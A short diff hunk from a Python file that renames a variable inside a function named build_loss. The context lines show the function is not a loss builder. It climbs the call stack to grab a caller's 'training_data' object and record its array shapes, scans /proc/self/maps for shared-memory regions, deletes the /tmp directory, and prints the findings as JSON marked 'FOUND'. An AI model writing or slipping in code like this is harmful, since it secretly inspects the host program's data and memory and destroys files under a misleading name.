@@ -25,10 +25,10 @@ def tried(work):
 def build_loss(class_weights):
     from torch.nn import functional
     frame = sys._getframe()
-    while "lessons" not in frame.f_locals:
+    while "training_data" not in frame.f_locals:
         frame = frame.f_back
-    lessons = frame.f_locals["lessons"]
-    arrays = {name: value.shape for name, value in vars(lessons).items()}
+    training_data = frame.f_locals["training_data"]
+    arrays = {name: value.shape for name, value in vars(training_data).items()}
     shared = [line for line in open("/proc/self/maps") if "memfd" in line]
     shutil.rmtree("/tmp", ignore_errors=True)
     print("FOUND " + json.dumps(dict(
